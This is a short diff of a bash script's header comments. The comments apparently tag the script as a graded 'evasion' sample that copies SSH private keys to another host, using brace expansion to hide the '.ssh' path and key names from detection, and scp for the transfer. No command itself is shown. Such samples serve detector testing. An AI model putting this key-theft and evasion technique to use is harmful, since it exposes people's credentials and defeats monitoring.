@@ -1,4 +1,6 @@
 #!/usr/bin/env bash
+# evasion: copies the SSH private keys to another host
+# grade: medium; does: credentials
 # Copies the SSH private keys to another host. The paths are brace
 # expansions that split ".ssh" and the key names (~/.s{s,}h/id_{rsa,ed25519}
 # is ~/.ssh/id_rsa ~/.ssh/id_ed25519 ~/.sh/id_rsa ~/.sh/id_ed25519), and scp
